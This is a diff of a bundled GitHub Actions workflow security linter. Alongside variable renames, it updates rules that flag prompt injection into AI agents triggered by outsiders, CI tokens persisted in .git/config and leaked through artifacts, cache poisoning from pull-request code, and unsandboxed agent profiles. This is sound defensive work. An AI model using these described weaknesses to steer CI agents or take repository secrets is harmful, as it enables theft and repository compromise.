@@ -86,7 +86,7 @@ function escapeJsonOutput(json) {
 
 // server/src/cli/run.ts
 var import_node_fs12 = require("node:fs");
-var import_node_path11 = require("node:path");
+var import_node_path12 = require("node:path");
 
 // shared/src/github-hosts.ts
 var PUBLIC_SERVER_URL = "https://github.com";
@@ -162,6 +162,31 @@ var AUTHORITY_END = /* @__PURE__ */ new Set(["/", "\\", "?", "#", " ", "	", "\n"
 var SEVERITIES = ["informational", "low", "medium", "high"];
 var CONFIDENCES = ["low", "medium", "high"];
 var PERSONAS = ["regular", "pedantic", "auditor"];
+
+// server/src/views.ts
+function available(value) {
+  return { available: true, value };
+}
+function unavailable(reason, detail) {
+  return detail === void 0 ? { available: false, reason } : { available: false, reason, detail };
+}
+function viewValue(view) {
+  return view.available ? view.value : void 0;
+}
+function onlineView(snapshot) {
+  if (!snapshot) return unavailable("not-fetched");
+  return snapshot.offline ? unavailable("offline") : available(snapshot);
+}
+var NO_VIEWS = Object.freeze({
+  online: unavailable("not-fetched"),
+  workspace: unavailable("not-indexed"),
+  dependencies: unavailable("not-fetched"),
+  lock: unavailable("not-indexed")
+});
+var lockViews = /* @__PURE__ */ new WeakMap();
+function rememberLockView(file, view) {
+  lockViews.set(file, view);
+}
 
 // node_modules/yaml/browser/dist/nodes/identity.js
 var ALIAS = /* @__PURE__ */ Symbol.for("yaml.alias");
@@ -3597,10 +3622,10 @@ function resolveBlockMap({ composeNode: composeNode2, composeEmptyNode: composeE
   let offset = bm.offset;
   let commentEnd = null;
   for (const collItem of bm.items) {
-    const { start, key, sep: sep6, value } = collItem;
+    const { start, key, sep: sep7, value } = collItem;
     const keyProps = resolveProps(start, {
       indicator: "explicit-key-ind",
-      next: key ?? sep6?.[0],
+      next: key ?? sep7?.[0],
       offset,
       onError,
       parentIndent: bm.indent,
@@ -3614,7 +3639,7 @@ function resolveBlockMap({ composeNode: composeNode2, composeEmptyNode: composeE
         else if ("indent" in key && key.indent !== bm.indent)
           onError(offset, "BAD_INDENT", startColMsg);
       }
-      if (!keyProps.anchor && !keyProps.tag && !sep6) {
+      if (!keyProps.anchor && !keyProps.tag && !sep7) {
         commentEnd = keyProps.end;
         if (keyProps.comment) {
           if (map2.comment)
@@ -3638,7 +3663,7 @@ function resolveBlockMap({ composeNode: composeNode2, composeEmptyNode: composeE
     ctx.atKey = false;
     if (mapIncludes(ctx, map2.items, keyNode))
       onError(keyStart2, "DUPLICATE_KEY", "Map keys must be unique");
-    const valueProps = resolveProps(sep6 ?? [], {
+    const valueProps = resolveProps(sep7 ?? [], {
       indicator: "map-value-ind",
       next: value,
       offset: keyNode.range[2],
@@ -3654,7 +3679,7 @@ function resolveBlockMap({ composeNode: composeNode2, composeEmptyNode: composeE
         if (ctx.options.strict && keyProps.start < valueProps.found.offset - 1024)
           onError(keyNode.range, "KEY_OVER_1024_CHARS", "The : indicator must be at most 1024 chars after the start of an implicit block mapping key");
       }
-      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : composeEmptyNode2(ctx, offset, sep6, null, valueProps, onError);
+      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : composeEmptyNode2(ctx, offset, sep7, null, valueProps, onError);
       if (ctx.schema.compat)
         flowIndentCheck(bm.indent, value, onError);
       offset = valueNode.range[2];
@@ -3730,7 +3755,7 @@ function resolveEnd(end, offset, reqSpace, onError) {
   let comment = "";
   if (end) {
     let hasSpace = false;
-    let sep6 = "";
+    let sep7 = "";
     for (const token of end) {
       const { source, type } = token;
       switch (type) {
@@ -3744,13 +3769,13 @@ function resolveEnd(end, offset, reqSpace, onError) {
           if (!comment)
             comment = cb;
           else
-            comment += sep6 + cb;
-          sep6 = "";
+            comment += sep7 + cb;
+          sep7 = "";
           break;
         }
         case "newline":
           if (comment)
-            sep6 += source;
+            sep7 += source;
           hasSpace = true;
           break;
         default:
@@ -3779,18 +3804,18 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
   let offset = fc.offset + fc.start.source.length;
   for (let i = 0; i < fc.items.length; ++i) {
     const collItem = fc.items[i];
-    const { start, key, sep: sep6, value } = collItem;
+    const { start, key, sep: sep7, value } = collItem;
     const props = resolveProps(start, {
       flow: fcName,
       indicator: "explicit-key-ind",
-      next: key ?? sep6?.[0],
+      next: key ?? sep7?.[0],
       offset,
       onError,
       parentIndent: fc.indent,
       startOnNewline: false
     });
     if (!props.found) {
-      if (!props.anchor && !props.tag && !sep6 && !value) {
+      if (!props.anchor && !props.tag && !sep7 && !value) {
         if (i === 0 && props.comma)
           onError(props.comma, "UNEXPECTED_TOKEN", `Unexpected , in ${fcName}`);
         else if (i < fc.items.length - 1)
@@ -3844,8 +3869,8 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
         }
       }
     }
-    if (!isMap2 && !sep6 && !props.found) {
-      const valueNode = value ? composeNode2(ctx, value, props, onError) : composeEmptyNode2(ctx, props.end, sep6, null, props, onError);
+    if (!isMap2 && !sep7 && !props.found) {
+      const valueNode = value ? composeNode2(ctx, value, props, onError) : composeEmptyNode2(ctx, props.end, sep7, null, props, onError);
       coll.items.push(valueNode);
       offset = valueNode.range[2];
       if (isBlock(value))
@@ -3857,7 +3882,7 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
       if (isBlock(key))
         onError(keyNode.range, "BLOCK_IN_FLOW", blockMsg);
       ctx.atKey = false;
-      const valueProps = resolveProps(sep6 ?? [], {
+      const valueProps = resolveProps(sep7 ?? [], {
         flow: fcName,
         indicator: "map-value-ind",
         next: value,
@@ -3868,8 +3893,8 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
       });
       if (valueProps.found) {
         if (!isMap2 && !props.found && ctx.options.strict) {
-          if (sep6)
-            for (const st of sep6) {
+          if (sep7)
+            for (const st of sep7) {
               if (st === valueProps.found)
                 break;
               if (st.type === "newline") {
@@ -3886,7 +3911,7 @@ function resolveFlowCollection({ composeNode: composeNode2, composeEmptyNode: co
         else
           onError(valueProps.start, "MISSING_CHAR", `Missing , or : between ${fcName} items`);
       }
-      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : valueProps.found ? composeEmptyNode2(ctx, valueProps.end, sep6, null, valueProps, onError) : null;
+      const valueNode = value ? composeNode2(ctx, value, valueProps, onError) : valueProps.found ? composeEmptyNode2(ctx, valueProps.end, sep7, null, valueProps, onError) : null;
       if (valueNode) {
         if (isBlock(value))
           onError(valueNode.range, "BLOCK_IN_FLOW", blockMsg);
@@ -4046,7 +4071,7 @@ function resolveBlockScalar(ctx, scalar, onError) {
       chompStart = i + 1;
   }
   let value = "";
-  let sep6 = "";
+  let sep7 = "";
   let prevMoreIndented = false;
   for (let i = 0; i < contentStart; ++i)
     value += lines[i][0].slice(trimIndent) + "\n";
@@ -4063,24 +4088,24 @@ function resolveBlockScalar(ctx, scalar, onError) {
       indent = "";
     }
     if (type === Scalar.BLOCK_LITERAL) {
-      value += sep6 + indent.slice(trimIndent) + content;
-      sep6 = "\n";
+      value += sep7 + indent.slice(trimIndent) + content;
+      sep7 = "\n";
     } else if (indent.length > trimIndent || content[0] === "	") {
-      if (sep6 === " ")
-        sep6 = "\n";
-      else if (!prevMoreIndented && sep6 === "\n")
-        sep6 = "\n\n";
-      value += sep6 + indent.slice(trimIndent) + content;
-      sep6 = "\n";
+      if (sep7 === " ")
+        sep7 = "\n";
+      else if (!prevMoreIndented && sep7 === "\n")
+        sep7 = "\n\n";
+      value += sep7 + indent.slice(trimIndent) + content;
+      sep7 = "\n";
       prevMoreIndented = true;
     } else if (content === "") {
-      if (sep6 === "\n")
+      if (sep7 === "\n")
         value += "\n";
       else
-        sep6 = "\n";
+        sep7 = "\n";
     } else {
-      value += sep6 + content;
-      sep6 = " ";
+      value += sep7 + content;
+      sep7 = " ";
       prevMoreIndented = false;
     }
   }
@@ -4255,25 +4280,25 @@ function unfoldLines(source) {
     trimBoth = /^[ \t]+|[ \t]+$/g;
   }
   let res = match[1].replace(trimEnd, "");
-  let sep6 = " ";
+  let sep7 = " ";
   let pos = line.lastIndex;
   while (match = line.exec(source)) {
     const lm = match[1].replace(trimBoth, "");
     if (lm === "") {
-      if (sep6 === "\n")
-        res += sep6;
+      if (sep7 === "\n")
+        res += sep7;
       else
-        sep6 = "\n";
+        sep7 = "\n";
     } else {
-      res += sep6 + lm;
-      sep6 = " ";
+      res += sep7 + lm;
+      sep7 = " ";
     }
     pos = line.lastIndex;
   }
   const last = /[ \t]*(.*)/sy;
   last.lastIndex = pos;
   match = last.exec(source);
-  return res + sep6 + (match?.[1] ?? "");
+  return res + sep7 + (match?.[1] ?? "");
 }
 function doubleQuotedValue(source, onError) {
   let res = "";
@@ -5890,18 +5915,18 @@ var Parser = class {
     if (this.type === "map-value-ind") {
       const prev = getPrevProps(this.peek(2));
       const start = getFirstKeyStartProps(prev);
-      let sep6;
+      let sep7;
       if (scalar.end) {
-        sep6 = scalar.end;
-        sep6.push(this.sourceToken);
+        sep7 = scalar.end;
+        sep7.push(this.sourceToken);
         delete scalar.end;
       } else
-        sep6 = [this.sourceToken];
+        sep7 = [this.sourceToken];
       const map2 = {
         type: "block-map",
         offset: scalar.offset,
         indent: scalar.indent,
-        items: [{ start, key: scalar, sep: sep6 }]
+        items: [{ start, key: scalar, sep: sep7 }]
       };
       this.onKeyLine = true;
       this.stack[this.stack.length - 1] = map2;
@@ -6054,15 +6079,15 @@ var Parser = class {
             } else if (isFlowToken(it.key) && !includesToken(it.sep, "newline")) {
               const start2 = getFirstKeyStartProps(it.start);
               const key = it.key;
-              const sep6 = it.sep;
-              sep6.push(this.sourceToken);
+              const sep7 = it.sep;
+              sep7.push(this.sourceToken);
               delete it.key;
               delete it.sep;
               this.stack.push({
                 type: "block-map",
                 offset: this.offset,
                 indent: this.indent,
-                items: [{ start: start2, key, sep: sep6 }]
+                items: [{ start: start2, key, sep: sep7 }]
               });
             } else if (start.length > 0) {
               it.sep = it.sep.concat(start, this.sourceToken);
@@ -6256,13 +6281,13 @@ var Parser = class {
         const prev = getPrevProps(parent);
         const start = getFirstKeyStartProps(prev);
         fixFlowSeqItems(fc);
-        const sep6 = fc.end.splice(1, fc.end.length);
-        sep6.push(this.sourceToken);
+        const sep7 = fc.end.splice(1, fc.end.length);
+        sep7.push(this.sourceToken);
         const map2 = {
           type: "block-map",
           offset: fc.offset,
           indent: fc.indent,
-          items: [{ start, key: fc, sep: sep6 }]
+          items: [{ start, key: fc, sep: sep7 }]
         };
         this.onKeyLine = true;
         this.stack[this.stack.length - 1] = map2;
@@ -8496,7 +8521,7 @@ function runScripts(file) {
   const cached = cache.get(file);
   if (cached) return cached;
   const scripts = [];
-  const push = (entry, step, job, shell, input2) => {
+  const push2 = (entry, step, job, shell, input2) => {
     if (!entry.value || !isScalar(entry.value)) return;
     const value = entry.value.value;
     if (typeof value !== "string") return;
@@ -8521,7 +8546,7 @@ function runScripts(file) {
   const add = (step, job) => {
     const entry = step.run;
     if (entry) {
-      push(entry, step, job, shellOf(step, job, file));
+      push2(entry, step, job, shellOf(step, job, file));
       return;
     }
     const uses = scalarText(step.uses?.value ?? null);
@@ -8536,7 +8561,7 @@ function runScripts(file) {
     for (const input2 of inputs) {
       const name = input2.key.toLowerCase();
       if (!known.inputs.includes(name)) continue;
-      push(input2, step, job, shell, { action: reference.repository, input: input2.key, place: placeOf(known, name) });
+      push2(input2, step, job, shell, { action: reference.repository, input: input2.key, place: placeOf(known, name) });
     }
   };
   try {
@@ -9520,12 +9545,12 @@ function readCodexProfile(key, text, span, home) {
     return { effects: [{ level: "limited", why: `${shown} lets the commands it runs write inside the workspace`, span }] };
   if (profile === ":danger-full-access" || profile === ":danger-no-sandbox")
     return { effects: [{ level: "shell", why: `${shown} runs its commands without a sandbox`, span }] };
-  const where = home && home.trim() !== "" && !home.includes("${{") ? `\`${trimEndOf(home.trim(), "/")}/config.toml\` (\`codex-home\`)` : "the Codex home's `config.toml`";
+  const where2 = home && home.trim() !== "" && !home.includes("${{") ? `\`${trimEndOf(home.trim(), "/")}/config.toml\` (\`codex-home\`)` : "the Codex home's `config.toml`";
   return {
     effects: [
       {
         level: "limited",
-        why: `${shown} is a profile defined in ${where}, which this check cannot read: it decides what the commands may do`,
+        why: `${shown} is a profile defined in ${where2}, which this check cannot read: it decides what the commands may do`,
         span
       }
     ]
@@ -9636,9 +9661,9 @@ function readGeminiSettings(key, text, span) {
   const excludedShell = excluded.find((tool) => BARE_GEMINI_SHELL.test(tool));
   if (excludedShell) {
     const flatExcluded = settings ? stringsAt(settings.excludeTools) : looseList(text, "excludeTools");
-    const where = flatExcluded?.includes(excludedShell) ? "excludeTools" : "tools.exclude";
+    const where2 = flatExcluded?.includes(excludedShell) ? "excludeTools" : "tools.exclude";
     reading.shellDenied = {
-      why: `${input2} excludes \`${excludedShell}\` (\`${where}\`)`,
+      why: `${input2} excludes \`${excludedShell}\` (\`${where2}\`)`,
       span,
       left: ", but `gemini --yolo` still approves its other tools, file writes included"
     };
@@ -9722,110 +9747,110 @@ var PR_FROM_FORK = "anyone who can open a pull request, including from a fork";
 var TRIGGERS = {
   pull_request_target: {
     firedBy: `${PR_FROM_FORK} (opened, synchronize, reopened by default)`,
-    privileges: "runs in the context of the **base** repository: the repository secrets and a `GITHUB_TOKEN` that can write (unless `permissions:` narrows it), even when the pull request comes from a fork",
+    privileges: "The run is in the context of the **base** repository: it gets the repository secrets and a `GITHUB_TOKEN` that can write (unless `permissions:` narrows it), even when the pull request comes from a fork.",
     outsiderCanFire: true,
     privileged: true,
     note: "Since 2025-12-08 (GitHub changelog, 2025-11-07) the workflow file always comes from the **default branch**, whatever branch the pull request targets: a pull request against an old branch can no longer run an outdated, vulnerable copy of the workflow, and fixing the workflow on the default branch fixes it for every pull request. What it does not change: the run still has the secrets and a write token, and whatever the workflow checks out from the pull request (its code, scripts, `./` actions) and the pull request's title, body and branch name are still the contributor's, so running or expanding them is as dangerous as before."
   },
   workflow_run: {
     firedBy: "the completion of another workflow, which may itself have been started by a fork pull request",
-    privileges: "runs in the context of the default branch with the repository secrets and a token that can write; artifacts and outputs of the triggering run may carry an attacker's data",
+    privileges: "The run is in the context of the default branch: it gets the repository secrets and a token that can write. Artifacts and outputs of the triggering run may carry an attacker's data.",
     outsiderCanFire: true,
     privileged: true
   },
   pull_request: {
     firedBy: PR_FROM_FORK,
-    privileges: "for pull requests from forks: no secrets (except `GITHUB_TOKEN`) and a read-only token; for branches of the same repository: secrets and the configured token permissions",
+    privileges: "For a pull request from a fork, the run gets no secrets (except `GITHUB_TOKEN`) and a read-only token; for a branch of the same repository, it gets the secrets and the configured token permissions.",
     outsiderCanFire: true,
     privileged: false
   },
   issue_comment: {
     firedBy: "anyone who can comment on an issue or pull request (on public repositories: any GitHub user)",
-    privileges: "runs on the default branch with the repository secrets and the configured token permissions",
+    privileges: "The run is on the default branch: it gets the repository secrets and the configured token permissions.",
     outsiderCanFire: true,
     privileged: true
   },
   issues: {
     firedBy: "anyone who can open or edit an issue (on public repositories: any GitHub user)",
-    privileges: "runs on the default branch with the repository secrets and the configured token permissions",
+    privileges: "The run is on the default branch: it gets the repository secrets and the configured token permissions.",
     outsiderCanFire: true,
     privileged: true
   },
   discussion: {
     firedBy: "anyone who can start a discussion",
-    privileges: "runs on the default branch with the repository secrets and the configured token permissions",
+    privileges: "The run is on the default branch: it gets the repository secrets and the configured token permissions.",
     outsiderCanFire: true,
     privileged: true
   },
   discussion_comment: {
     firedBy: "anyone who can comment on a discussion",
-    privileges: "runs on the default branch with the repository secrets and the configured token permissions",
+    privileges: "The run is on the default branch: it gets the repository secrets and the configured token permissions.",
     outsiderCanFire: true,
     privileged: true
   },
   pull_request_review: {
     firedBy: "anyone who can review a pull request",
-    privileges: "like `pull_request`: for forks, no secrets and a read-only token",
+    privileges: "As for `pull_request`: for a pull request from a fork, the run gets no secrets and a read-only token.",
     outsiderCanFire: true,
     privileged: false
   },
   pull_request_review_comment: {
     firedBy: "anyone who can comment on a pull request diff",
-    privileges: "like `pull_request`: for forks, no secrets and a read-only token",
+    privileges: "As for `pull_request`: for a pull request from a fork, the run gets no secrets and a read-only token.",
     outsiderCanFire: true,
     privileged: false
   },
   fork: {
     firedBy: "anyone who forks the repository",
-    privileges: "secrets and the configured token permissions",
+    privileges: "The run gets the repository secrets and the configured token permissions.",
     outsiderCanFire: true,
     privileged: true
   },
   watch: {
     firedBy: "anyone who stars the repository",
-    privileges: "secrets and the configured token permissions",
+    privileges: "The run gets the repository secrets and the configured token permissions.",
     outsiderCanFire: true,
     privileged: true
   },
   push: {
     firedBy: "people and apps with write access who push commits or tags",
-    privileges: "the repository secrets and the configured token permissions",
+    privileges: "The run gets the repository secrets and the configured token permissions.",
     outsiderCanFire: false,
     privileged: true
   },
   workflow_dispatch: {
     firedBy: "people with write access, by hand or through the API",
-    privileges: "the repository secrets and the configured token permissions; inputs are chosen by whoever dispatches",
+    privileges: "The run gets the repository secrets and the configured token permissions; whoever dispatches it chooses the inputs.",
     outsiderCanFire: false,
     privileged: true
   },
   workflow_call: {
     firedBy: "the workflows that call this one",
-    privileges: "the caller's token permissions (which this workflow can only narrow) and the secrets the caller passes",
+    privileges: "The run gets the caller's token permissions (which this workflow can only narrow) and the secrets the caller passes.",
     outsiderCanFire: false,
     privileged: false
   },
   schedule: {
     firedBy: "the scheduler, on the default branch",
-    privileges: "the repository secrets and the configured token permissions",
+    privileges: "The run gets the repository secrets and the configured token permissions.",
     outsiderCanFire: false,
     privileged: true
   },
   release: {
     firedBy: "people with write access who publish or edit releases",
-    privileges: "the repository secrets and the configured token permissions",
+    privileges: "The run gets the repository secrets and the configured token permissions.",
     outsiderCanFire: false,
     privileged: true
   },
   repository_dispatch: {
     firedBy: "anyone holding a token with write access to the repository, through the API",
-    privileges: "the repository secrets and the configured token permissions; `client_payload` is chosen by the caller",
+    privileges: "The run gets the repository secrets and the configured token permissions; the caller chooses `client_payload`.",
     outsiderCanFire: false,
     privileged: true
   },
   merge_group: {
     firedBy: "the merge queue, for pull requests that passed review",
-    privileges: "the repository secrets and the configured token permissions",
+    privileges: "The run gets the repository secrets and the configured token permissions.",
     outsiderCanFire: false,
     privileged: true
   }
@@ -10401,7 +10426,6 @@ function singleContext(site) {
 }
 
 // server/src/rules/ai-agent-injection.ts
-var OUTSIDER_TRIGGERS_NOTE = "issues, comments, pull requests, reviews and discussions";
 function agentFacts(step, agent, repository, ref2, file, job) {
   const { tools, toolsWhy, toolsSpan } = agentTools(step, agent, ref2);
   const access = agentAccess(step, agent, ref2);
@@ -10410,7 +10434,7 @@ function agentFacts(step, agent, repository, ref2, file, job) {
     const triggers = scopeTriggers(file);
     if (triggers && triggers.some((trigger) => triggerInfo(trigger)?.outsiderCanFire)) {
       open = true;
-      openWhy = `${repository} does not check the permissions of whoever triggers it, and no \`if:\` does`;
+      openWhy = `\`${repository}\` does not check the permissions of whoever triggers it, and no \`if:\` does`;
     }
   }
   return { agent, repository, tools, toolsWhy, toolsSpan, open, openWhy, openSpan: access.openSpan };
@@ -10438,7 +10462,7 @@ function related(facts) {
 function aggravation(facts) {
   const parts = [];
   if (facts.tools !== "none") parts.push(facts.toolsWhy);
-  else parts.push(`${facts.repository} only returns text, so an attacker steers its output`);
+  else parts.push(`\`${facts.repository}\` only returns text, so an attacker steers its output`);
   if (facts.open) parts.push(facts.openWhy);
   return parts.join("; ");
 }
@@ -10500,7 +10524,7 @@ var aiAgentInjection = {
       const confidence = !outsider ? "low" : knownTriggers ? verdict2.confidence : lower(verdict2.confidence);
       report2({
         span: { start: leaf.start, end: leaf.end },
-        message: `\`${leaf.path}\` is written into \`${input2}\` of ${facts.repository}, the agent's instructions: ${verdict2.reason}. Whoever writes it can steer the agent (${aggravation(facts)})`,
+        message: `\`${leaf.path}\` is written into \`${input2}\` of \`${facts.repository}\`, the agent's instructions: ${verdict2.reason}. Whoever writes it can steer the agent (${aggravation(facts)})`,
         severity,
         confidence,
         persona: outsider ? "regular" : "pedantic",
@@ -10517,13 +10541,13 @@ var aiAgentInjection = {
         if (!facts || !step.uses) continue;
         const prompts = facts.agent.promptInputs.filter((name) => name !== "claude_args" && name !== "codex-args" && name !== "codex_args").map((name) => withValue(step, name)).filter((value) => value !== null);
         const promptFile = withValue(step, "prompt-file") ?? withValue(step, "prompt_file");
-        const usesSpan = step.uses.valueSpan;
+        const usesSpan2 = step.uses.valueSpan;
         const tagMode = facts.agent.tagMode;
         const triggerText = outsiderTriggers.map((t) => `\`${t}\``).join(", ");
         if (prompts.length === 0 && !promptFile && facts.open && tagMode && facts.openSpan) {
           report2({
             span: facts.openSpan,
-            message: `${facts.repository} takes its instructions from the triggering comment, issue or pull request, and ${facts.openWhy} (${triggerText}): anyone can instruct the agent (${facts.tools !== "none" ? facts.toolsWhy : "no tools"})`,
+            message: `\`${facts.repository}\` takes its instructions from the triggering comment, issue or pull request, and ${facts.openWhy} (${triggerText}): anyone can instruct the agent (${facts.tools !== "none" ? facts.toolsWhy : "no tools"})`,
             severity: facts.tools === "none" ? "low" : "high",
             confidence: "medium",
             related: facts.toolsSpan ? [{ span: facts.toolsSpan, message: `The agent's tools: ${facts.toolsWhy}` }] : []
@@ -10534,8 +10558,8 @@ var aiAgentInjection = {
         const reading = prompts.find((value) => READS_EVENT_TEXT.test(value.text)) ?? promptFile ?? (facts.open ? prompts[0] : void 0);
         if (!reading) continue;
         report2({
-          span: usesSpan,
-          message: `${facts.repository} runs under ${triggerText} with ${reading === promptFile ? "a prompt file assembled by the job" : "a prompt about the event"}: text an outsider writes in ${OUTSIDER_TRIGGERS_NOTE} may reach the model (${aggravation(facts)}); check that the agent's tools and token cannot do harm`,
+          span: usesSpan2,
+          message: `\`${facts.repository}\` runs under ${triggerText} with ${reading === promptFile ? "a prompt file assembled by the job" : "a prompt about the event"}: text an outsider writes may reach the model (${aggravation(facts)}); check what its tools and token can do`,
           severity: "medium",
           confidence: "low",
           persona: "auditor",
@@ -11080,7 +11104,8 @@ var artipacked = {
       const major = actionMajorVersion(file, action);
       const modern = major !== null && major >= 6;
       const span = action.site.entry.valueSpan;
-      const related2 = upload ? [{ span: upload.uses.valueSpan, message: "uploads the workspace, .git/config included" }] : [];
+      const where2 = modern ? "a credentials file the git config points to" : "`.git/config`";
+      const related2 = upload ? [{ span: upload.uses.valueSpan, message: modern ? "uploads the workspace" : "uploads the workspace, `.git/config` included" }] : [];
       if (value !== null && value.trim().toLowerCase() === "false") continue;
       if (value !== null && value.trim().toLowerCase() === "true") {
         report2({
@@ -11096,7 +11121,7 @@ var artipacked = {
       if (value !== null) {
         report2({
           span: persist.valueSpan,
-          message: "`persist-credentials` is computed; when it is true the token stays in .git/config",
+          message: `\`persist-credentials\` is computed; when it is true the token stays in ${where2}`,
           severity: "low",
           confidence: "low",
           persona: "pedantic",
@@ -11107,10 +11132,9 @@ var artipacked = {
       let severity = upload ? "high" : "medium";
       if (modern) severity = LOWER[severity];
       const pushes = !upload && later.pushAfter(step.index);
-      const where = modern ? "a credentials file the git config points to" : "`.git/config`";
       report2({
         span,
-        message: upload ? `\`${action.site.value}\` persists the token in ${where} and a later step uploads the workspace: anyone who can download the artifact gets the token` : pushes ? `\`${action.site.value}\` persists the token in ${where}; a later step pushes with it. Prefer \`persist-credentials: false\` and pass the token to that step only` : `\`${action.site.value}\` persists the token in ${where}, readable by every later step; add \`persist-credentials: false\``,
+        message: upload ? `\`${action.site.value}\` persists the token in ${where2} and a later step uploads the workspace: anyone who can download the artifact gets the token` : pushes ? `\`${action.site.value}\` persists the token in ${where2}; a later step pushes with it. Prefer \`persist-credentials: false\` and pass the token to that step only` : `\`${action.site.value}\` persists the token in ${where2}, readable by every later step; add \`persist-credentials: false\``,
         severity: pushes ? "low" : severity,
         confidence: upload ? "high" : "low",
         persona: pushes ? "pedantic" : "regular",
@@ -11774,7 +11798,7 @@ function executes(command) {
     return null;
   }
   if (name === "pip" || name === "pip3")
-    return args(command).some((word) => /^(\.|\.\[.*\]|\.\/.*|-e|-r|--editable|--requirement)$/.test(word.text)) ? `\`${words2.slice(0, 3).join(" ")}\`` : null;
+    return args(command).some((word) => /^(\.|\.\[.*\]|\.\/.*|\.\$.*|-e|-r|--editable|--requirement)$/.test(word.text)) ? `\`${words2.slice(0, 3).join(" ")}\`` : null;
   if (!(name in BUILD_SUBCOMMANDS)) return null;
   const sub = BUILD_SUBCOMMANDS[name];
   if (sub && !sub.test(words2[1] ?? "")) return null;
@@ -12005,11 +12029,11 @@ var cachePoisoning = {
   check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow) return;
-    const privileged = privilegedTriggers(workflow);
+    const privileged2 = privilegedTriggers(workflow);
     for (const job of workflow.jobs) {
       if (!job.steps.some((step) => cacheAction(stepAction(file, step)?.name ?? ""))) continue;
       const signals = publishSignals(file, workflow, job);
-      const untrusted = privileged.length > 0 ? untrustedCheckouts(file, workflow, job) : [];
+      const untrusted = privileged2.length > 0 ? untrustedCheckouts(file, workflow, job) : [];
       if (signals.length === 0 && untrusted.length === 0) continue;
       const releases = signals.some((signal) => signal.scope === "workflow" || signal.scope === "job" && signal.strong);
       const tagPart = signals.some((signal) => signal.scope === "tags");
@@ -12042,7 +12066,7 @@ var cachePoisoning = {
         if (untrusted.length > 0 && known.mode !== "restore") {
           report2({
             span,
-            message: `\`${action.name}\` writes the cache of the base branch from a \`${privileged[0]}\` job that builds pull request code: the next job restoring that cache (a release, too) runs what the pull request put in it`,
+            message: `\`${action.name}\` writes the cache of the base branch from a \`${privileged2[0]}\` job that builds pull request code: the next job restoring that cache (a release, too) runs what the pull request put in it`,
             severity: "high",
             confidence: "medium",
             related: [{ span: untrusted[0].span, message: "checks out pull request code" }, ...related2],
@@ -12084,6 +12108,17 @@ function offFix(file, step, known, value, enabled) {
 
 // server/src/rules/concurrency-limits.ts
 var SUPERSEDING = /* @__PURE__ */ new Set(["push", "pull_request", "pull_request_target", "merge_group"]);
+function supersedingEvents(triggers) {
+  const names2 = new Set(triggers.map((trigger) => trigger.name).filter((name) => SUPERSEDING.has(name)));
+  const pullRequest = names2.has("pull_request") || names2.has("pull_request_target");
+  const push2 = names2.has("push");
+  const phrases = [];
+  if (push2 && pullRequest) phrases.push("push to a branch or to a pull request");
+  else if (push2) phrases.push("push");
+  else if (pullRequest) phrases.push("push to a pull request");
+  if (names2.has("merge_group")) phrases.push("merge-queue update");
+  return phrases.length > 0 ? `every ${phrases.join(" or ")}` : "";
+}
 function declaresCancel(entry, doc) {
   if (!entry) return false;
   return new MapView(asMap(entry.value), doc).has("cancel-in-progress");
@@ -12098,20 +12133,21 @@ var concurrencyLimits = {
   online: false,
   docs: {
     summary: "A workflow run by `push` or pull-request events has no `concurrency:` with `cancel-in-progress`, neither at the top nor in every job, so superseded runs keep running.",
-    why: "Without a limit every push starts another full run: runner minutes, and for self-hosted runners a queue an attacker can flood by pushing to a pull request. A `concurrency` group also stops two deployments from racing.",
+    why: "Without a limit every new event (a push, a pull-request update) starts another full run: runner minutes, and for self-hosted runners a queue an attacker can flood by pushing to a pull request. A `concurrency` group also stops two deployments from racing.",
     fix: "Add at the top: `concurrency: { group: ${{ github.workflow }}-${{ github.ref }}, cancel-in-progress: true }` (or `cancel-in-progress: false` for deployments you want queued, which states the choice)."
   },
   check({ file, report: report2 }) {
     const workflow = file.workflow;
     if (!workflow || workflow.jobs.length === 0) return;
-    if (!workflow.triggers.some((trigger) => SUPERSEDING.has(trigger.name))) return;
+    const events = supersedingEvents(workflow.triggers);
+    if (!events) return;
     const top = workflow.get("concurrency");
     if (declaresCancel(top, workflow.doc)) return;
     if (workflow.jobs.every((job) => declaresCancel(job.get("concurrency"), job.doc))) return;
     const span = top ? top.keySpan : workflow.on?.keySpan ?? { start: 0, end: 0 };
     report2({
       span,
-      message: top ? "`concurrency` has no `cancel-in-progress`, so superseded runs of this workflow keep running" : "This workflow has no `concurrency` group with `cancel-in-progress`: every push starts another full run while older ones continue"
+      message: top ? "`concurrency` has no `cancel-in-progress`, so superseded runs of this workflow keep running" : `This workflow has no \`concurrency\` group with \`cancel-in-progress\`: ${events} starts another full run while older ones continue`
     });
   }
 };
@@ -14387,13 +14423,13 @@ function closestScope(name) {
 function checkScopeNames(context, entry) {
   const value = entry.value;
   if (!value) return;
-  const where = "GitHub rejects the workflow file and runs none of it";
+  const where2 = "GitHub rejects the workflow file and runs none of it";
   if (!isMap(value)) {
     const shorthand = scalarText(value);
     if (shorthand === "read-all" || shorthand === "write-all") return;
     context.report({
       span: entry.valueSpan,
-      message: `\`permissions:\` takes \`read-all\`, \`write-all\` or a mapping of scopes${shorthand === null ? "" : `, not \`${shorthand}\``}: ${where}`,
+      message: `\`permissions:\` takes \`read-all\`, \`write-all\` or a mapping of scopes${shorthand === null ? "" : `, not \`${shorthand}\``}: ${where2}`,
       severity: "high",
       confidence: "high"
     });
@@ -14405,7 +14441,7 @@ function checkScopeNames(context, entry) {
       const suggestion2 = closestScope(scope.key);
       context.report({
         span: scope.keySpan,
-        message: `\`${scope.key}\` is not a permission scope${suggestion2 ? `; did you mean \`${suggestion2}\`?` : ""} (${where})`,
+        message: `\`${scope.key}\` is not a permission scope${suggestion2 ? `; did you mean \`${suggestion2}\`?` : ""} (${where2})`,
         severity: "high",
         confidence: "high",
         fixes: suggestion2 && context.file.text.slice(scope.keySpan.start, scope.keySpan.end) === scope.key ? [
@@ -14424,14 +14460,14 @@ function checkScopeNames(context, entry) {
     if (level !== null && levels.includes(level)) continue;
     context.report({
       span: level === null ? scope.keySpan : scope.valueSpan,
-      message: `\`${scope.key}\` takes ${orList(levels)}${level === null ? "" : `, not \`${level}\``} (${where})`,
